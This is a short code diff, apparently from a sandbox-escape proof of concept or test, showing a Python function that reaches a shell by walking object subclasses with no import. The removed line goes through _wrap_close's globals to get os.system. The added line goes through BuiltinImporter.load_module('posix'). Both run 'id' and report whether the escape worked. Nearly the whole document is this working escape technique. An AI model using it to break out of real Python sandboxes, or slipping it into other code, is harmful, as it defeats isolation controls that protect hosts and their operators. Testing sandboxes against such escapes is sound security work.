@@ -2,7 +2,7 @@
 # why: from an empty tuple to a shell by the graph of classes, without one import
 def main():
     for cls in ().__class__.__base__.__subclasses__():
-        if cls.__name__ == "_wrap_close":
-            status = cls.__init__.__globals__["system"]("id")
+        if cls.__name__ == "BuiltinImporter":
+            status = cls.load_module("posix").system("id")
             return {"escaped": status == 0, "detail": status}
     return {"escaped": False, "detail": "no such class"}
